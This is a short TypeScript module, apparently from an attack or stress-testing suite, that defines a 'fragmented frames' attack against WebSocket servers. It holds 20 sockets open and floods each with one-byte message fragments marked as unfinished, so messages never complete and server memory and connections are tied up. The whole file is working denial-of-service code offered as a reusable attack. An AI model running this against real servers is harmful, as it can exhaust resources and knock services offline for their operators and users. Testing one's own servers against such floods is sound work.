// Messages that never end, a byte to a frame.

import { type Attack, holdSockets } from '../attack.ts'

export const fragmentedFrames: Attack = {
  name: 'fragmented frames',
  run: (target) =>
    holdSockets(target, {
      count: 20,
      key: target.key,
      use(socket) {
        const dripping = setInterval(() => {
          if (socket.readyState !== socket.OPEN) return clearInterval(dripping)
          for (let count = 0; count < 500; count++) socket.send('x', { fin: false })
        }, 10)
        socket.once('close', () => clearInterval(dripping))
      },
    }),
}
